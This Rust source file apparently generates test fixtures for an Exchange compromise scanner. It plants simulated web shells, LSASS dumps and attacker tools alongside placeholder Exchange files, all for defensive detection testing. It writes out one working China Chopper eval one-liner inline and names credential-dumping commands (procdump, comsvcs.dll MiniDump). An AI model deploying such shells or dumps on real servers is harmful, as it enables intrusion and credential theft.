//! Files on disk: the legitimate web files of the drop folders (small placeholders named as
//! Microsoft's baselines name them), `aspnet_client`, `Bin\ExSetup.exe`; benign look-alikes;
//! and, on a compromised server, the scenario's corpus: web shells of every public family
//! ([`super::shells`]) in every drop folder, renamed and modified copies, compiled shells in
//! `Temporary ASP.NET Files`, LSASS dumps, archives and tool scripts ([`super::artifacts`]).
//!
//! Legitimate names: `owa\auth` from exchange-artifacts.md §1.9; `ClientAccess\{ecp,owa,OAB}`
//! and `FrontEnd\HttpProxy\{OAB,ews}` from `crates/exsweep-intel/data/known-good-exchange.tsv`
//! (CSS-Exchange baselines). No planted file takes a legitimate name.

use super::artifacts::{self, CompiledPage, DumpHost, DumpTool};
use super::fmt::{MS_PER_DAY, MS_PER_HOUR, civil, us_datetime};
use super::rng::Rng;
use super::scenario::{CHOPPER_KEY, OAB_VDIR_ID, chopper};
use super::shells;
use super::{Content, DiskNote, FileSpec, Server};
use crate::truth::is_web_place;
use std::io::{Cursor, Write};

const OWA_AUTH: &[(&str, &str)] = &[
    ("logon.aspx", "Logon"),
    ("logoff.aspx", "Logoff"),
    ("errorFE.aspx", "ErrorFE"),
    ("expiredpassword.aspx", "ExpiredPassword"),
    ("frowny.aspx", "Frowny"),
    ("signout.aspx", "SignOut"),
    ("OutlookCN.aspx", "OutlookCN"),
    ("RedirSuiteServiceProxy.aspx", "RedirSuiteServiceProxy"),
];

/// Legitimate script files of `ClientAccess\ecp` and `ClientAccess\owa` (all listed for
/// 15.0.1497.12, 15.1.2242.4 and 15.2.792.10 in known-good-exchange.tsv): (folder, name, class).
const CLIENT_ACCESS: &[(&str, &str, &str)] = &[
    ("ecp", "default.aspx", "Microsoft.Exchange.Management.ControlPanel.DefaultPage"),
    ("ecp", "error.aspx", "Microsoft.Exchange.Management.ControlPanel.ErrorPage"),
    ("ecp", "About.aspx", "Microsoft.Exchange.Management.ControlPanel.About"),
    ("owa", "default.aspx", "Microsoft.Exchange.Clients.Owa2.Server.Web.DefaultPage"),
    ("owa", "languageselection.aspx", "Microsoft.Exchange.Clients.Owa2.Server.Web.LanguageSelection"),
    ("owa", "SuiteServiceProxy.aspx", "Microsoft.Exchange.Clients.Owa2.Server.Web.SuiteServiceProxyPage"),
];

/// Extensions IIS runs as server-side script (as exsweep-core's sweep lists them).
const SCRIPT_EXTENSIONS: &[&str] = &["aspx", "ashx", "asmx", "asp", "asax", "ascx", "cshtml", "svc", "php", "jsp"];

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const LOWER_ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
const HEX: &[u8] = b"0123456789abcdef";

// Drop folders (the truth's `place`), see `crate::truth::DROP_FOLDERS`.
const P_ASPNET: &str = r"C:\inetpub\wwwroot\aspnet_client";
const P_SYSTEM_WEB: &str = r"C:\inetpub\wwwroot\aspnet_client\system_web";
const P_OWA_AUTH: &str = r"<EX>\FrontEnd\HttpProxy\owa\auth";
const P_OWA_CURRENT: &str = r"<EX>\FrontEnd\HttpProxy\owa\auth\Current";
const P_OWA_RESOURCES: &str = r"<EX>\FrontEnd\HttpProxy\owa\auth\Current\themes\resources";
const P_OWA_VERSION: &str = r"<EX>\FrontEnd\HttpProxy\owa\auth\<version>";
const P_ECP_AUTH: &str = r"<EX>\FrontEnd\HttpProxy\ecp\auth";
const P_HP_OAB: &str = r"<EX>\FrontEnd\HttpProxy\OAB";
const P_HP_EWS: &str = r"<EX>\FrontEnd\HttpProxy\ews";
const P_CA_ECP: &str = r"<EX>\ClientAccess\ecp";
const P_CA_OWA: &str = r"<EX>\ClientAccess\owa";
const P_CA_OAB: &str = r"<EX>\ClientAccess\OAB";
const P_TEMP_ASPNET: &str = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files";
const P_PROGRAMDATA: &str = r"C:\ProgramData";
const P_WINDOWS_TEMP: &str = r"C:\Windows\Temp";
const P_ROOT: &str = r"C:\root";
const P_USERS_PUBLIC: &str = r"C:\Users\Public";

fn aspx_stub(class: &str, name: &str) -> Vec<u8> {
    format!(
        "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.{class}\" %>\r\n\
         <!-- exsweep fixture: placeholder for the legitimate Exchange file {name} -->\r\n"
    )
    .into_bytes()
}

fn page_stub(inherits: &str, name: &str) -> Vec<u8> {
    format!(
        "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"{inherits}\" %>\r\n\
         <!-- exsweep fixture: placeholder for the legitimate Exchange file {name} -->\r\n"
    )
    .into_bytes()
}

fn global_asax_stub(inherits: &str) -> Vec<u8> {
    format!(
        "<%@ Application Language=\"C#\" Inherits=\"{inherits}\" %>\r\n\
         <!-- exsweep fixture: placeholder for the legitimate Exchange global.asax -->\r\n"
    )
    .into_bytes()
}

fn web_config_stub() -> Vec<u8> {
    b"<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <!-- exsweep fixture placeholder -->\r\n</configuration>\r\n".to_vec()
}

/// How the sweep must find a planted file: `rule` when its content carries its family's
/// documented traits, `hash` always, `unknown` for a script file in a web folder (no planted file
/// takes a legitimate name).
fn expect_of(place: &str, win_path: &str, traits: bool) -> Vec<&'static str> {
    let name = win_path.rsplit('\\').next().unwrap_or(win_path).to_ascii_lowercase();
    let script = name.rsplit_once('.').is_some_and(|(_, ext)| SCRIPT_EXTENSIONS.contains(&ext));
    let mut v = Vec::new();
    if traits {
        v.push("rule");
    }
    v.push("hash");
    if script && is_web_place(place) {
        v.push("unknown");
    }
    v
}

/// A small real zip (stored entries, fixed timestamps) holding `entries`.
pub(crate) fn small_zip(entries: &[(&str, &[u8])], t: i64) -> Vec<u8> {
    let c = civil(t);
    let when = zip::DateTime::from_date_and_time(c.y as u16, c.mo as u8, c.d as u8, c.h as u8, c.mi as u8, c.s as u8)
        .unwrap_or_default();
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .last_modified_time(when)
        .unix_permissions(0o644);
    let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        if z.start_file(*name, opts).is_err() || z.write_all(data).is_err() {
            return Vec::new();
        }
    }
    z.finish().map(|c| c.into_inner()).unwrap_or_default()
}

/// One planted file before it becomes a [`FileSpec`].
struct Plant {
    path: String,
    bytes: Vec<u8>,
    mtime: i64,
    kind: &'static str,
    family: &'static str,
    variant: &'static str,
    place: &'static str,
    /// The content carries the family's documented traits (a rule from the public strings matches).
    traits: bool,
    note: String,
}

impl Plant {
    fn spec(self) -> FileSpec {
        let expect = expect_of(self.place, &self.path, self.traits);
        FileSpec {
            win_path: self.path,
            content: Content::Bytes(self.bytes),
            mtime: self.mtime,
            disk: Some(DiskNote {
                kind: self.kind,
                note: self.note,
                family: self.family,
                variant: self.variant,
                place: self.place,
                expect,
            }),
        }
    }
}

impl Server {
    pub(crate) fn disk_files(&self) -> Vec<FileSpec> {
        let ex = &self.ex;
        let installed = self.t0 - 40 * MS_PER_DAY + 9 * MS_PER_HOUR + 14 * 60_000 + 22_000;
        let mut out = Vec::new();
        let mut file = |win_path: String, bytes: Vec<u8>, mtime: i64, disk: Option<DiskNote>| {
            out.push(FileSpec { win_path, content: Content::Bytes(bytes), mtime, disk });
        };
        let legit = || Some(DiskNote::legit());
        for (name, class) in OWA_AUTH {
            file(format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{name}"), aspx_stub(class, name), installed, legit());
        }
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\GetIdToken.htm"),
            b"<!DOCTYPE html>\r\n<!-- exsweep fixture: placeholder for the legitimate Exchange file GetIdToken.htm -->\r\n<html><head><title></title></head><body></body></html>\r\n".to_vec(),
            installed,
            legit(),
        );
        let v = &self.short_version;
        let css = b"/* exsweep fixture: placeholder for the OWA logon style sheet */\r\nbody{font-family:'Segoe UI',Tahoma,sans-serif}\r\n".to_vec();
        for folder in [v.as_str(), "Current"] {
            file(
                format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{folder}\themes\resources\logon.css"),
                css.clone(),
                installed,
                legit(),
            );
        }
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{v}\scripts\premium\flogon.js"),
            b"/* exsweep fixture: placeholder for the OWA forms logon script */\r\nfunction clkLgn(){}\r\n".to_vec(),
            installed,
            legit(),
        );
        file(
            format!(r"{ex}\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx"),
            aspx_stub("TimeoutLogout", "TimeoutLogout.aspx"),
            installed,
            legit(),
        );
        for folder in ["OAB", "ews"] {
            file(
                format!(r"{ex}\FrontEnd\HttpProxy\{folder}\global.asax"),
                global_asax_stub("Microsoft.Exchange.HttpProxy.Global"),
                installed,
                legit(),
            );
            file(format!(r"{ex}\FrontEnd\HttpProxy\{folder}\web.config"), web_config_stub(), installed, legit());
        }
        file(format!(r"{ex}\ClientAccess\OAB\web.config"), web_config_stub(), installed, legit());
        for (folder, name, inherits) in CLIENT_ACCESS {
            file(format!(r"{ex}\ClientAccess\{folder}\{name}"), page_stub(inherits, name), installed, legit());
        }
        file(
            format!(r"{ex}\ClientAccess\ecp\Global.asax"),
            global_asax_stub("Microsoft.Exchange.Management.ControlPanel.Global"),
            installed,
            legit(),
        );
        file(format!(r"{ex}\ClientAccess\ecp\Web.config"), web_config_stub(), installed, legit());
        file(
            format!(r"{ex}\ClientAccess\owa\global.asax"),
            global_asax_stub("Microsoft.Exchange.Clients.Owa2.Server.Web.Global"),
            installed,
            legit(),
        );
        file(format!(r"{ex}\ClientAccess\owa\web.config"), web_config_stub(), installed, legit());
        let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
        exe.extend_from_slice(b"exsweep fixture: placeholder for ExSetup.exe ");
        // The build installed last (after the patch, when there is one), as text and in a
        // VS_FIXEDFILEINFO (signature, structure version, FileVersionMS, FileVersionLS).
        let last = self.build_at(i64::MAX);
        exe.extend_from_slice(last.as_bytes());
        let v: Vec<u32> = last.split('.').map(|p| p.parse().unwrap_or(0)).collect();
        if let [major, minor, build, rev] = v[..] {
            exe.extend("VS_VERSION_INFO\0".encode_utf16().flat_map(u16::to_le_bytes));
            exe.extend_from_slice(&[0xBD, 0x04, 0xEF, 0xFE, 0, 0, 1, 0]);
            exe.extend_from_slice(&((major << 16) | minor).to_le_bytes());
            exe.extend_from_slice(&((build << 16) | rev).to_le_bytes());
        }
        file(format!(r"{ex}\Bin\ExSetup.exe"), exe, installed, None);
        file(
            r"C:\inetpub\wwwroot\iisstart.htm".into(),
            b"<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server</title></head><body><img src=\"iisstart.png\" alt=\"IIS\"></body></html>\r\n".to_vec(),
            installed,
            None,
        );
        out.push(FileSpec {
            win_path: r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319".into(),
            content: Content::Dir,
            mtime: installed,
            disk: None,
        });

        // Traps: names and places that must not be taken for the real thing.
        let trap_day = |k: u32| self.day_start(k % self.spec.days);
        let mut file = |win_path: String, bytes: Vec<u8>, mtime: i64, disk: Option<DiskNote>| {
            out.push(FileSpec { win_path, content: Content::Bytes(bytes), mtime, disk });
        };
        file(
            r"C:\Windows\Temp\lsass-notes.txt".into(),
            b"lsass.exe memory usage after the February patches: normal (120 MB). -- IT\r\n".to_vec(),
            trap_day(3) + 10 * MS_PER_HOUR,
            Some(DiskNote::trap("lsass-notes.txt in Windows\\Temp: starts with lsass but is not a .dmp")),
        );
        let report_t = trap_day(5) + 15 * MS_PER_HOUR;
        file(
            r"C:\Users\Public\report.zip".into(),
            small_zip(&[("report.txt", b"Monthly mail statistics\r\n")], report_t),
            report_t,
            Some(DiskNote::trap("a .zip outside ProgramData")),
        );

        if self.spec.compromised {
            out.extend(self.planted_files().into_iter().map(Plant::spec));
        }
        out
    }

    /// The corpus of a compromised server, in the order of the story (attack day = day 0).
    fn planted_files(&self) -> Vec<Plant> {
        let ex = &self.ex;
        let v = &self.short_version;
        let day = |offset: i64| {
            let d = (i64::from(self.attack_day) + offset).clamp(0, i64::from(self.spec.days) - 1);
            self.day_start(d as u32)
        };
        let at = |d: i64, h: i64, m: i64, s: i64| day(d) + h * MS_PER_HOUR + m * 60_000 + s * 1000;
        let mut names = Rng::stream(self.spec.seed, &[12]);
        let mut out = Vec::new();
        let mut plant = |path: String,
                         bytes: Vec<u8>,
                         mtime: i64,
                         kind: &'static str,
                         (family, variant): (&'static str, &'static str),
                         place: &'static str,
                         traits: bool,
                         note: &str| {
            out.push(Plant { path, bytes, mtime, kind, family, variant, place, traits, note: note.into() });
        };
        const WS: &str = "webshell";
        let cc = |variant| ("china_chopper", variant);
        let one = |family| (family, "");

        // Day 0: CVE-2021-27065 and -26858 writes, first shells.
        let reset_t = day(0) + (6 * 60 + 49) * 60_000 + 56_843;
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx"),
            self.oab_dump_shell(reset_t, &format!("http://f/{}", chopper(CHOPPER_KEY))),
            reset_t + 1_200,
            WS,
            ("oab_dump", "classic"),
            P_OWA_AUTH,
            true,
            "CVE-2021-27065 OAB virtual directory dump with a China Chopper ExternalUrl (HelseCERT name, look-alike of RedirSuiteServiceProxy.aspx)",
        );
        let shell_key = names.chars(LOWER, 5);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\shell.aspx"),
            chopper(&shell_key).into_bytes(),
            at(0, 7, 12, 31),
            WS,
            cc("classic"),
            P_OWA_AUTH,
            true,
            "China Chopper one-liner written by the CVE-2021-26858 OAB download (OABGenerator log, 07:12:30)",
        );
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{v}\healthcheck.aspx"),
            shells::secchecker().into_bytes(),
            at(0, 7, 40, 12),
            WS,
            one("secchecker"),
            P_OWA_VERSION,
            true,
            "SecChecker (Backdoor:ASP/SecChecker.A): answers digits for installed EDR agents; MSBLOG name healthcheck.aspx in the versioned OWA folder",
        );
        let tiny_key = names.chars(LOWER, 1);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\ecp\auth\web.aspx"),
            shells::chopper_debug_form("a", &tiny_key).into_bytes(),
            at(0, 8, 2, 44),
            WS,
            cc("debug_form"),
            P_ECP_AUTH,
            true,
            "tiny JScript shell (<%@ Page Language=\"Jscript\" Debug=true%>, Request.Form, eval) in ecp\\auth, MSBLOG name web.aspx",
        );
        // The obfuscated Chopper through a second ExternalUrl, dumped to aspnet_client over UNC,
        // then requested once: its compiled page lands in Temporary ASP.NET Files.
        let oab2_name = names.chars(ALNUM, 8);
        let ids: [String; 4] = std::array::from_fn(|_| format!("_0x{}", names.chars(HEX, 6)));
        let rot = names.range(40, 90) as u32;
        let obf = shells::chopper_obfuscated(&ids, rot);
        let oab2_t = day(0) + (11 * 60 + 31) * 60_000 + 7_210;
        let (oab2, split) = self.oab_dump_for_compile(oab2_t, &obf);
        plant(
            format!(r"C:\inetpub\wwwroot\aspnet_client\{oab2_name}.aspx"),
            oab2.clone(),
            oab2_t + 1_100,
            WS,
            ("oab_dump", "obfuscated_0x"),
            P_ASPNET,
            true,
            "second OAB virtual directory dump, ExternalUrl holding the obfuscated Chopper ('orange','unsafe'), written over UNC to aspnet_client (random CISA-style name)",
        );
        let temp_root = format!(
            r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\{}\{}",
            names.chars(HEX, 8),
            names.chars(HEX, 8)
        );
        let text = String::from_utf8_lossy(&oab2).into_owned();
        let (lit1, lit2) = (&text[..split.0], &text[split.1..]);
        let app1 = names.chars(LOWER_ALNUM, 8);
        let vpath1 = format!("~/aspnet_client/{oab2_name}.aspx");
        let mut dll_rng = Rng::stream(self.spec.seed, &[13, 1]);
        let dll1_t = oab2_t + 3 * 60_000 + 14_000;
        plant(
            format!(r"{temp_root}\App_Web_{app1}.dll"),
            artifacts::compiled_page(
                &mut dll_rng,
                &CompiledPage {
                    assembly: &format!("App_Web_{app1}"),
                    virtual_path: &vpath1,
                    literals: &[lit1, lit2],
                    constants: &["Item", "orange", "unsafe", "Request", "Page_Load"],
                    time: dll1_t / 1000,
                },
            ),
            dll1_t,
            "compiled_webshell",
            ("compiled_webshell", "oab_dump"),
            P_TEMP_ASPNET,
            true,
            "App_Web_*.dll compiled from the aspnet_client OAB dump: ~/aspnet_client/, JScriptEvaluate, the UTF-16 literal ' : http://f/'",
        );

        // Day 1: more shells through the UNC write and the shells themselves.
        let discover_key = names.chars(LOWER, 1);
        plant(
            r"C:\inetpub\wwwroot\aspnet_client\discover.aspx".into(),
            shells::chopper_request_item(&discover_key).into_bytes(),
            day(1) + 4 * MS_PER_HOUR + 40 * 60_000 + 10_000,
            WS,
            cc("request_item"),
            P_ASPNET,
            true,
            "Chopper variant (Request.Item, base64) written through the OAB download path (CVE-2021-26858, UNC); ESET Calypso name",
        );
        let chopper_t = day(1) + 10 * MS_PER_HOUR + 58 * 60_000 + 2_000;
        let chopper_x = chopper("x");
        plant(
            format!(r"C:\inetpub\wwwroot\aspnet_client\system_web\{}.aspx", self.shell_name),
            chopper_x.clone().into_bytes(),
            chopper_t,
            WS,
            cc("classic"),
            P_SYSTEM_WEB,
            true,
            "China Chopper one-liner, random 8-character name in aspnet_client\\system_web",
        );
        let app2 = names.chars(LOWER_ALNUM, 8);
        let vpath2 = format!("~/aspnet_client/system_web/{}.aspx", self.shell_name);
        let mut dll_rng = Rng::stream(self.spec.seed, &[13, 2]);
        let dll2_t = chopper_t + 6 * 60_000 + 31_000;
        plant(
            format!(r"{temp_root}\App_Web_{app2}.dll"),
            artifacts::compiled_page(
                &mut dll_rng,
                &CompiledPage {
                    assembly: &format!("App_Web_{app2}"),
                    virtual_path: &vpath2,
                    literals: &[],
                    constants: &["x", "unsafe"],
                    time: dll2_t / 1000,
                },
            ),
            dll2_t,
            "compiled_webshell",
            ("compiled_webshell", "china_chopper"),
            P_TEMP_ASPNET,
            true,
            "App_Web_*.dll compiled from the system_web Chopper: ~/aspnet_client/system_web/, JScriptEvaluate",
        );
        let b64_key = names.chars(LOWER, 4);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\OAB\log.aspx"),
            shells::chopper_base64_eval(&b64_key).into_bytes(),
            at(1, 13, 5, 19),
            WS,
            cc("base64_eval"),
            P_HP_OAB,
            true,
            "Chopper variant <%@Page Language=\"Jscript\"%> + FromBase64String + eval(System.Text.Encoding.; MSTIC path HttpProxy\\OAB\\log.aspx",
        );
        let sports = shells::sportsball().into_bytes();
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\ews\333.aspx"),
            sports.clone(),
            at(1, 13, 20, 40),
            WS,
            one("sportsball"),
            P_HP_EWS,
            true,
            "SPORTSBALL (cookie fqrspt, upload and command execution); MSTIC path HttpProxy\\ews\\333.aspx",
        );
        plant(
            format!(r"C:\inetpub\wwwroot\aspnet_client\system_web\{}.aspx", names.chars(ALNUM, 8)),
            sports,
            at(1, 13, 21, 2),
            WS,
            one("sportsball"),
            P_SYSTEM_WEB,
            true,
            "the same SPORTSBALL file dropped again under a random 8-character name in aspnet_client\\system_web",
        );
        let space_key = names.chars(LOWER, 6);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\errorEW.aspx"),
            shells::chopper_eval_space(&space_key).into_bytes(),
            at(1, 15, 44, 8),
            WS,
            cc("eval_space"),
            P_OWA_RESOURCES,
            true,
            "Chopper with 'eval (Request[' in owa\\auth\\Current\\themes\\resources; MSBLOG name errorEW.aspx",
        );
        let oab3_name = names.chars(ALNUM, 8);
        let key3 = names.chars(ALNUM, 16);
        let oab3_t = day(1) + (16 * 60 + 10) * 60_000 + 3_905;
        plant(
            format!(r"{ex}\ClientAccess\OAB\{oab3_name}.aspx"),
            self.oab_dump_shell(oab3_t, &format!("http://f/{key3}")),
            oab3_t + 1_000,
            WS,
            ("oab_dump", "key_only"),
            P_CA_OAB,
            true,
            "OAB virtual directory dump whose ExternalUrl holds only a key string, no script (like CISA's 2XJHwN19.aspx); CISA_10328929_02 traits",
        );

        // Day 2: uploaders, tunnel, file manager; credential theft.
        plant(
            r"C:\inetpub\wwwroot\aspnet_client\caches.aspx".into(),
            shells::streamwriter().into_bytes(),
            at(2, 2, 10, 55),
            WS,
            one("streamwriter"),
            P_ASPNET,
            true,
            "StreamWriter dropper (Request.Form[\"p\"] path, Request.Form[\"f\"] body); ESET Winnti name caches.aspx",
        );
        plant(
            r"C:\inetpub\wwwroot\aspnet_client\OutlookEN.aspx".into(),
            shells::simpleseesharp("").into_bytes(),
            at(2, 2, 12, 3),
            WS,
            one("simpleseesharp"),
            P_ASPNET,
            true,
            "SimpleSeeSharp uploader (header at offset 0, under 1 KB); MSTIC name OutlookEN.aspx",
        );
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\Current\one1.aspx"),
            shells::simpleseesharp("\r\n").into_bytes(),
            at(2, 2, 13, 37),
            WS,
            one("simpleseesharp"),
            P_OWA_CURRENT,
            true,
            "copy of the SimpleSeeSharp uploader with a line break between the directives (other hash); MSTIC path owa\\auth\\current\\one1.aspx",
        );
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\errorEE.aspx"),
            shells::csharp_uploader().into_bytes(),
            at(2, 3, 30, 21),
            WS,
            one("csharp_uploader"),
            P_OWA_AUTH,
            true,
            "C# uploader (void Page_Load(object ..., Request.Files[0].SaveAs(Server.MapPath(); MSBLOG name errorEE.aspx",
        );
        plant(
            format!(r"{ex}\ClientAccess\ecp\errorPage.aspx"),
            shells::regeorg().into_bytes(),
            at(2, 4, 0, 48),
            WS,
            one("regeorg"),
            P_CA_ECP,
            true,
            "reGeorg tunnel variation (X-CMD, StrTr base64, Split('|'), new Socket) in ClientAccess\\ecp, look-alike of error.aspx",
        );
        plant(
            r"C:\Windows\Temp\xx.bat".into(),
            shells::powercat_batch().into_bytes(),
            at(2, 4, 10, 16),
            "tool",
            one("powercat_batch"),
            P_WINDOWS_TEMP,
            true,
            "batch file: procdump of LSASS to C:\\windows\\temp\\lsass and PowerCat from GitHub (MSTIC forensic strings); SB name Windows\\Temp\\xx.bat",
        );
        let host = self.dump_host();
        let host = DumpHost { names: &host.1.iter().map(String::as_str).collect::<Vec<_>>(), ..host.0 };
        let dump_t = day(2) + 4 * MS_PER_HOUR + 12 * 60_000 + 33_000;
        for (path, t, tool, family, place, note) in [
            (
                r"C:\Windows\Temp\lsass.dmp",
                dump_t,
                DumpTool::Procdump,
                "lsass_dump_procdump",
                P_WINDOWS_TEMP,
                "LSASS minidump written by procdump64 -ma (xx.bat)",
            ),
            (
                r"C:\root\lsass.dmp",
                dump_t + 8 * 60_000,
                DumpTool::Comsvcs,
                "lsass_dump_comsvcs",
                P_ROOT,
                "LSASS minidump written by rundll32 comsvcs.dll, MiniDump <pid> C:\\root\\lsass.dmp full",
            ),
            (
                r"C:\inetpub\wwwroot\aspnet_client\ls.dmp",
                dump_t + 14 * 60_000,
                DumpTool::Comsvcs,
                "lsass_dump_comsvcs",
                P_ASPNET,
                "LSASS minidump written by comsvcs.dll MiniDump into aspnet_client for download (name not lsass*)",
            ),
        ] {
            let mut rng = Rng::stream(self.spec.seed, &[10, t as u64]);
            plant(
                path.into(),
                artifacts::minidump(&mut rng, t, tool, &host),
                t,
                "lsass_dump",
                one(family),
                place,
                true,
                note,
            );
        }
        plant(
            format!(r"{ex}\ClientAccess\owa\languageselect.aspx"),
            shells::file_explorer().into_bytes(),
            at(2, 5, 0, 9),
            WS,
            one("file_explorer"),
            P_CA_OWA,
            true,
            "file-explorer shell (DriveInfo.GetDrives(), \" Created!\", base64 upload) in ClientAccess\\owa, look-alike of languageselection.aspx",
        );
        let chack_key = names.chars(LOWER, 7);
        let chack = format!(
            "Chack{}{}.aspx",
            names.pick_str(&["OutLook", "Cookie", "Id", "Replace", "Pass", "Lang", "Logs", "Auth"]),
            names.pick_str(&["EN", "AR", "AS", "DA", "ES", "IO", "PL", "SE"])
        );
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\{chack}"),
            format!(
                "<script language=\"JScript\" runat=\"server\">\r\nfunction Page_Load(){{eval(Request[\"{chack_key}\"],\"unsafe\");}}\r\n</script>\r\n"
            )
            .into_bytes(),
            at(2, 22, 15, 50),
            WS,
            cc("classic_modified"),
            P_OWA_AUTH,
            true,
            "copy of owa\\auth\\shell.aspx with another key and line breaks (other hash, SB's Page_Load literal broken, CISA's eval(Request[..],\"unsafe\") kept); MSTIC Chack* name",
        );

        // Day 3: staging, more copies, the home-made shell, a reverse shell script.
        let cab_t = day(3) + 2 * MS_PER_HOUR + 60_000 + 4_000;
        let mut cab_rng = Rng::stream(self.spec.seed, &[14]);
        let ipconfig = format!(
            "\r\nWindows IP Configuration\r\n\r\n   Host Name . . . . . . . . . . . . : {}\r\n   Primary Dns Suffix  . . . . . . . : {}\r\n\r\nEthernet adapter Ethernet0:\r\n\r\n   IPv4 Address. . . . . . . . . . . : {}(Preferred)\r\n   Subnet Mask . . . . . . . . . . . : 255.255.255.0\r\n   Default Gateway . . . . . . . . . : 10.0.1.1\r\n",
            self.host, self.spec.domain, self.ip
        );
        let arp = format!(
            "\r\nInterface: {} --- 0x4\r\n  Internet Address      Physical Address      Type\r\n  10.0.1.1              00-50-56-a1-0b-7e     dynamic\r\n  10.0.1.5              00-50-56-a1-3c-19     dynamic\r\n  10.0.1.6              00-50-56-a1-3c-1a     dynamic\r\n",
            self.ip
        );
        plant(
            r"C:\ProgramData\info.cab".into(),
            artifacts::cab(
                &[
                    ("ip.txt", ipconfig.into_bytes()),
                    ("arp.txt", arp.into_bytes()),
                    ("system", artifacts::hive_stub(&mut cab_rng, "SYSTEM", cab_t)),
                    ("security", artifacts::hive_stub(&mut cab_rng, "SECURITY", cab_t)),
                ],
                cab_t,
                cab_rng.range(1, 60_000) as u16,
            ),
            cab_t,
            "archive",
            one("recon_cab"),
            P_PROGRAMDATA,
            true,
            "recon CAB (makecab) holding ip.txt, arp.txt and the system and security hives (SB Cab_Recon)",
        );
        let zip_t = day(3) + 2 * MS_PER_HOUR + 3 * 60_000;
        let ip = format!("Windows IP Configuration\r\n\r\n   IPv4 Address. . . . . . . . . . . : {}\r\n", self.ip);
        plant(
            r"C:\ProgramData\it.zip".into(),
            small_zip(&[("ip.txt", ip.as_bytes()), ("arp.txt", b"Interface: 10.0.1.1 --- 0x4\r\n")], zip_t),
            zip_t,
            "archive",
            one("staging_zip"),
            P_PROGRAMDATA,
            false,
            "staging archive in ProgramData (MSTIC it.zip)",
        );
        let tiny2_key = names.chars(LOWER, 3);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"),
            shells::chopper_debug_form("c", &tiny2_key).into_bytes(),
            at(3, 6, 30, 26),
            WS,
            cc("debug_form"),
            P_ECP_AUTH,
            true,
            "copy of ecp\\auth\\web.aspx with another key, named TimeoutLogoff.aspx: CISA's slip for TimeoutLogout.aspx, not a legitimate name",
        );
        let param = names.chars(LOWER, 2);
        plant(
            format!(r"{ex}\FrontEnd\HttpProxy\owa\auth\OutlookJP.aspx"),
            shells::custom_cmd_shell(&param).into_bytes(),
            at(3, 7, 45, 1),
            WS,
            one("custom_cmd_shell"),
            P_OWA_AUTH,
            false,
            "home-made C# command shell (Process.Start) with none of the published literals: only the unknown-file check (and its hash) finds it",
        );
        plant(
            r"C:\Users\Public\up.ps1".into(),
            shells::nishang_oneliner().into_bytes(),
            at(3, 8, 0, 32),
            "tool",
            one("nishang_tcp_oneliner"),
            P_USERS_PUBLIC,
            true,
            "Nishang Invoke-PowerShellTcpOneLine reverse shell (to TEST-NET-1, inside a function nothing calls)",
        );
        out
    }

    /// Process facts of lsass.exe for the dumps, and the names found in its memory.
    fn dump_host(&self) -> (DumpHost<'static>, Vec<String>) {
        let mut rng = Rng::stream(self.spec.seed, &[15]);
        let (os_build, os_revision) = if self.version[1] >= 2 { (17763, 1757) } else { (14393, 4169) };
        let names = vec![
            self.netbios.to_ascii_uppercase(),
            self.host.clone(),
            format!("{}$", self.host),
            "Administrator".to_string(),
            self.users[1].sam.clone(),
            self.users[2].sam.clone(),
            self.svc_archive.sam.clone(),
            self.health[0].sam.clone(),
            "Kerberos".to_string(),
            "Negotiate".to_string(),
            "NTLM".to_string(),
        ];
        let host = DumpHost {
            os_build,
            os_revision,
            pid: (rng.range(600, 760) as u32) & !3,
            boot: (self.t0 - 19 * MS_PER_DAY + 3 * MS_PER_HOUR) / 1000,
            names: &[],
        };
        (host, names)
    }

    /// The `.aspx` a ResetOABVirtualDirectory writes: the virtual directory's properties as text,
    /// `external` as the ExternalUrl (the script, or a key string).
    fn oab_dump_shell(&self, t: i64, external: &str) -> Vec<u8> {
        let (netbios, domain) = (&self.netbios, &self.spec.domain);
        let dc: Vec<String> = domain.split('.').map(|p| format!("DC={p}")).collect();
        let [a, b, c, r] = self.version;
        let rows: Vec<(&str, String)> = vec![
            ("Name", "OAB (Default Web Site)".into()),
            ("PollInterval", "480".into()),
            ("OfflineAddressBooks", String::new()),
            ("RequireSSL", "True".into()),
            ("BasicAuthentication", "False".into()),
            ("WindowsAuthentication", "True".into()),
            ("OAuthAuthentication", "True".into()),
            ("MetabasePath", format!("IIS://{}/W3SVC/1/ROOT/OAB", self.fqdn)),
            ("Path", format!(r"{}\FrontEnd\HttpProxy\OAB", self.ex)),
